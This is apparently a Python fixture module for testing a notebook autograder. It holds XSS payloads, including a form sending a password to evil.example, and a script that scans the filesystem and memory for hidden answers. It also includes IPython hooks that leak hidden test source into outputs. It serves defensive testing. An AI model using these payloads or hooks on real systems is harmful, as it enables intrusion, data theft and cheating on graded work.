"""Attacks on what the grader renders: learners' text as markup, hidden tests in feedback.

Two classes of attack (``tests/test_grader_rendering.py`` also checks the feedback and the report
of each entry, in headless Chromium too):

- markup: HTML and JavaScript in a student id, a file name, a markdown cell, rich outputs
  (IPython.display HTML, Javascript, SVG, Markdown, widget views, images with hostile metadata),
  an error message, and text that matplotlib would read as mathtext or TeX. Nothing of it may run,
  load or be parsed: the report and the feedback show it literally (escaped) or sanitised.
- hidden tests: hooks that print each cell's source (IPython's ``pre_run_cell``, an input
  transformer, a custom exception handler, the display hook, ``In``) and a function that raises
  the calling test's source as its message. The feedback shows the verdict from the grader's
  record, never what the kernel printed while a test ran, and nothing that quotes a hidden line.

Payloads set ``window.__pwned``, change ``document.title`` or call ``alert`` if they ever run, and
point at ``evil.example`` if they ever load something.
"""

from dataclasses import dataclass

import nbformat

# (catalogue.py imports this module while it loads: import the catalogue first, never this alone)
from . import fixture as fx
from .catalogue import CORRECT, FULL, NEURON_ZERO, WRONG_NEURON, Bad, _answers, _mutate


@dataclass
class RenderBad(Bad):
    """A ``Bad`` that also says what text its feedback page must not contain anywhere
    (``feedback_must_not_contain``, checked in the HTML) and which of the learner's text it must
    still show, literally (``feedback_must_show``, checked in the page's visible text; with
    ``rich_outputs`` on, ``rich_must_show`` too). Every page is also checked for live markup:
    scripts, event handlers, frames, outside addresses."""

    feedback_must_not_contain: tuple = ()
    feedback_must_show: tuple = ()
    rich_must_show: tuple = ()  # shown with ``HideHiddenTests.rich_outputs = True``


# What must never reach a learner: the hidden lines of the fixture's tests.
HIDDEN = fx.HIDDEN
# Lines of the reference's sigmoid and neuron (nanoprop/activations.py), which are not in the jail.
REFERENCE_LINES = ("never overflows", "computed without overflow for large |z|", "def as_float")

STUDENT_PAYLOAD = "<img src=x onerror=window.__pwned='student'>"
FILE_PAYLOAD = "<svg onload=alert('file')>"
MARKDOWN_PAYLOAD = (
    "## Notes by the learner MARKDOWN-NOTE\n\n"
    "<script>window.__pwned = 'markdown script'</script>\n"
    "<img src=x onerror=\"window.__pwned = 'markdown img'\">\n"
    '<img src="https://evil.example/track.png" alt="tracker">\n'
    '<iframe src="https://evil.example/frame"></iframe>\n'
    "<style>body { display: none }</style>\n"
    "<a href=\"javascript:window.__pwned='markdown link'\">click me</a>\n"
    '<form action="https://evil.example/steal"><input name=password></form>\n'
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">\n'
    "<b onmouseover=\"document.title='pwned'\">bold text</b>\n\nIn a code span: `<code>literal</code>`\n"
)
RICH_CODE = """from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
display(HTML('<p>RICH-HTML</p><img src=x onerror="window.__pwned = \\'html\\'">'
             '<script>window.__pwned = "html script"</script>'
             '<img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/s.css">'))
display(Javascript('window.__pwned = "javascript"; alert("javascript")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="window.__pwned = 1">'
            '<script>window.__pwned = "svg script"</script>'
            '<image href="https://evil.example/svg.png" width="10" height="10"/></svg>'))
display(Markdown('RICH-MARKDOWN <script>window.__pwned = "md"</script> [x](javascript:alert(1))'))
display(Latex(r'$\\href{javascript:alert(1)}{x}$'))
display({'text/html': '<p>ISOLATED</p><script>window.__pwned = "iframe"</script>', 'text/plain': 'i'},
        raw=True, metadata={'text/html': {'isolated': True}})
display({'image/png': 'iVBORw0KGgo=" onerror="window.__pwned=2', 'text/plain': 'bad png'}, raw=True)
display({'image/png': 'iVBORw0KGgo=', 'text/plain': 'png'}, raw=True,
        metadata={'image/png': {'width': '1 onerror=alert(1)'},
                  'filenames': {'image/png': 'https://evil.example/a.png'}})
display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x', 'version_major': 2},
         'text/plain': 'a widget'}, raw=True)
"""
ERROR_PAYLOAD = "<script>window.__pwned='error'</script><img src=x onerror=alert('error')>"
# What the instructor's report must show as text: the student id, the file name, the message.
REPORT_MUST_SHOW = (STUDENT_PAYLOAD, FILE_PAYLOAD, ERROR_PAYLOAD, "$\\nosuchcommand$ is $x^{$")


def html_student_id(root, s, ctx):
    nb = fx.answered(root)
    fx.write_submission(root, s, nb, filename=FILE_PAYLOAD + ".ipynb")


def html_markdown_cell(root, s, ctx):
    def change(nb):
        nb.cells.insert(2, nbformat.v4.new_markdown_cell(MARKDOWN_PAYLOAD))
        nb.cells[2].attachments = {"x.png": {"image/png": 'iVBORw0KGgo=" onerror="alert(1)'}}
        nb.cells[2].source += "\n![attached](attachment:x.png)\n"
        nb.metadata["widgets"] = {
            "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}
        }
        nb.metadata["title"] = "</title><script>window.__pwned='title'</script>"

    _mutate(root, s, change)


def html_rich_outputs(root, s, ctx):
    _answers(root, s, sigmoid=RICH_CODE + CORRECT["sigmoid"])


def script_in_error_message(root, s, ctx):
    _answers(root, s, neuron=f"def neuron(x, w, b):\n    raise ValueError({ERROR_PAYLOAD!r})")


def mathtext_message(root, s, ctx):
    _answers(root, s, neuron="def neuron(x, w, b):\n    raise ValueError(r'$\\nosuchcommand$ is $x^{$')")


def tex_message(root, s, ctx):
    _answers(
        root,
        s,
        neuron="def neuron(x, w, b):\n    raise ValueError(r'\\nosuchcommand \\begin{document} 1% & $ _ ^')",
    )


EXFILTRATE = r"""
import gc as _gc, os as _os, sys as _sys, inspect as _inspect, time as _time
_found, _until = [], _time.monotonic() + 3  # a few seconds: the notebook has a time limit
_KEYS = ["HID" + "DEN", "nano" + "prop", "never" + " overflows", "lin" + "space(-6", "x @ w" + " + 0.5"]
def _look(text, where):
    for line in str(text).splitlines():
        if any(k in line for k in _KEYS):
            _found.append(where + ": " + line[:200])
for _top in ("/", _os.path.expanduser("~"), _os.getcwd()):
    for _dir, _subs, _files in _os.walk(_top):
        _subs[:] = [d for d in _subs if d not in ("proc", "sys", "dev") and _time.monotonic() < _until]
        for _f in _files:
            try:
                with open(_os.path.join(_dir, _f), errors="replace") as _fh:
                    _look(_fh.read(200000), _os.path.join(_dir, _f))
            except Exception:
                pass
for _m in list(_sys.modules.values()):
    try:
        _look(_inspect.getsource(_m), getattr(_m, "__name__", "?"))
    except Exception:
        pass
def _scan(*_):
    for _o in _gc.get_objects()[-20000:]:
        if isinstance(_o, dict):
            for _v in list(_o.values())[:50]:
                if isinstance(_v, str):
                    _look(_v, "memory")
    print("EXFILTRATED:", *sorted(set(_found))[:40], sep="\n")
_scan()
get_ipython().events.register("post_run_cell", _scan)
"""


def exfiltrate(root, s, ctx):
    _answers(root, s, sigmoid=EXFILTRATE + CORRECT["sigmoid"])


def pre_run_cell_hook(root, s, ctx):
    hook = "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
    _answers(root, s, sigmoid=hook + CORRECT["sigmoid"])


def input_transformer(root, s, ctx):
    hook = (
        "def _leak(lines):\n    print(''.join(lines))\n    return lines\n"
        "get_ipython().input_transformers_cleanup.append(_leak)\n"
    )
    _answers(root, s, sigmoid=hook + CORRECT["sigmoid"])


def custom_exc_hook(root, s, ctx):
    hook = (
        "def _show(shell, etype, value, tb, tb_offset=None):\n"
        "    print('SOURCE OF THE FAILING CELL:', shell.user_ns['_ih'][-1])\n"
        "    shell.showtraceback((etype, value, tb), tb_offset=tb_offset)\n"
        "get_ipython().set_custom_exc((AssertionError,), _show)\n"
    )
    _answers(root, s, sigmoid=hook + CORRECT["sigmoid"], neuron=WRONG_NEURON)


def display_hook(root, s, ctx):
    code = (
        "_shell = get_ipython()\n"
        "_shell.displayhook.compute_format_data = lambda result: "
        "({'text/plain': '\\n'.join(_shell.user_ns['_ih'])}, {})\n" + CORRECT["neuron"] + "\nneuron\n"
    )
    _answers(root, s, neuron=code)


def display_update(root, s, ctx):
    code = (
        "from IPython.display import display, update_display\n"
        "display({'text/plain': 'placeholder'}, raw=True, display_id='leak')\n"
        "get_ipython().events.register('pre_run_cell', lambda info: update_display(\n"
        "    {'text/plain': info.raw_cell[::-1]}, raw=True, display_id='leak'))\n"
    )
    _answers(root, s, sigmoid=code + CORRECT["sigmoid"])


def history_printed(root, s, ctx):
    _answers(root, s, neuron=CORRECT["neuron"] + "\nprint(In)\nprint(repr(_ih)[::-1])")


def source_in_message(root, s, ctx):
    _answers(
        root,
        s,
        neuron=(
            "def neuron(x, w, b):\n    import linecache, sys\n"
            "    caller = sys._getframe(1).f_code.co_filename\n"
            "    raise ValueError(''.join(linecache.getlines(caller)))"
        ),
    )


ENTRIES = [
    RenderBad(
        "html_student_id",
        "A student id (the folder name) and a notebook file name made of HTML with event handlers: "
        "graded as usual (the file flagged 'renamed'); the report shows both as text.",
        html_student_id,
        FULL,
        {"renamed"},
        student=STUDENT_PAYLOAD,
    ),
    RenderBad(
        "html_markdown_cell",
        "A markdown cell with scripts, event handlers, a javascript: link, a form, an iframe, a "
        "meta refresh, a tracking image, a hostile attachment, plus widget state and a hostile "
        "title in the notebook's metadata: full marks; the feedback keeps the text and the "
        "harmless markup (bold, a heading), nothing that runs or loads.",
        html_markdown_cell,
        FULL,
        feedback_must_not_contain=(
            "<form",
            "<meta http-equiv",
            "<style>body",
            "widget-state",
            "evil.example",
        ),
        feedback_must_show=("MARKDOWN-NOTE", "bold text", "click me", "<code>literal</code>"),
    ),
    RenderBad(
        "html_rich_outputs",
        "Rich outputs made to run code or load things (HTML with onerror and script, Javascript, "
        "SVG with onload and script, Markdown with a script, an 'isolated' iframe, a PNG whose "
        "data or metadata break out of the attribute, a widget view): full marks; in the feedback "
        "the HTML is sanitised, the SVG an inert image, the JavaScript and the widget a note.",
        html_rich_outputs,
        FULL,
        feedback_must_not_contain=("isolated-iframe", "<link"),
        feedback_must_show=("A rich output (a plot, HTML, a value) is not shown",),
        rich_must_show=("RICH-HTML", "RICH-MARKDOWN", "ISOLATED", "a JavaScript output is not shown"),
    ),
    RenderBad(
        "script_in_error_message",
        "The neuron raises an exception whose message is a script and an image with onerror: "
        "the test scores 0; the report and the feedback show the message as text.",
        script_in_error_message,
        NEURON_ZERO,
        feedback_must_show=(ERROR_PAYLOAD,),
    ),
    RenderBad(
        "mathtext_message",
        "The neuron raises an exception whose message matplotlib would parse as mathtext "
        "('$\\nosuchcommand$ is $x^{$'): 0 for that test; the report plots the message as written.",
        mathtext_message,
        NEURON_ZERO,
        feedback_must_show=("$\\nosuchcommand$ is $x^{$",),
    ),
    RenderBad(
        "tex_message",
        "A message full of TeX ('\\nosuchcommand \\begin{document} 1% & $ _ ^'): the report "
        "shows it literally.",
        tex_message,
        NEURON_ZERO,
        feedback_must_show=("\\nosuchcommand \\begin{document}",),
    ),
    RenderBad(
        "exfiltrate",
        "Walks every readable file, every loaded module's source and gc.get_objects() for answers "
        "and prints what it finds, now and after every cell: full marks; the jail holds neither the "
        "reference nor a source notebook, and the feedback of a test cell is the grader's record, "
        "so no hidden-test line and no line of the reference reaches the feedback.",
        exfiltrate,
        FULL,
        feedback_must_not_contain=HIDDEN + REFERENCE_LINES,
    ),
    RenderBad(
        "pre_run_cell_hook",
        "An IPython pre_run_cell hook prints the source of every cell, the hidden tests included, "
        "into that cell's output: full marks; the feedback shows each test's verdict from the "
        "grader's record, never the printed source.",
        pre_run_cell_hook,
        FULL,
        feedback_must_not_contain=HIDDEN,
    ),
    RenderBad(
        "input_transformer",
        "An input transformer prints each cell's source before it runs: as the pre_run_cell hook.",
        input_transformer,
        FULL,
        feedback_must_not_contain=HIDDEN,
    ),
    RenderBad(
        "custom_exc_hook",
        "A custom exception handler prints the source of a failing test cell with its traceback: "
        "the wrong neuron still fails; the feedback keeps the failure, not the source.",
        custom_exc_hook,
        NEURON_ZERO,
        feedback_must_not_contain=HIDDEN,
    ),
    RenderBad(
        "display_hook",
        "The display hook is replaced so that the value of a later cell shows every source run so "
        "far (the first test's hidden lines included): full marks; that output is not in the feedback.",
        display_hook,
        FULL,
        feedback_must_not_contain=HIDDEN,
    ),
    RenderBad(
        "display_update",
        "An early cell shows a placeholder with a display id; a pre_run_cell hook replaces it with "
        "each later cell's source, reversed (update_display_data reaches back to the early cell): "
        "full marks; rich outputs are not in the feedback unless the instructor asks for them.",
        display_update,
        FULL,
        feedback_must_not_contain=HIDDEN + ("STSET NEDDIH", "dedda ton si saib eht"),
    ),
    RenderBad(
        "history_printed",
        "An answer cell after the first test prints In and _ih (reversed, past any filter): the "
        "outputs of cells run after hidden tests are not in the feedback.",
        history_printed,
        FULL,
        feedback_must_not_contain=HIDDEN + ("SETSET NEDDIH",),
    ),
    RenderBad(
        "source_in_message",
        "The neuron reads the calling test cell's source (linecache) and raises it as its message: "
        "0 for that test; the message quoting hidden lines is not shown to the learner.",
        source_in_message,
        NEURON_ZERO,
        feedback_must_not_contain=HIDDEN,
    ),
]
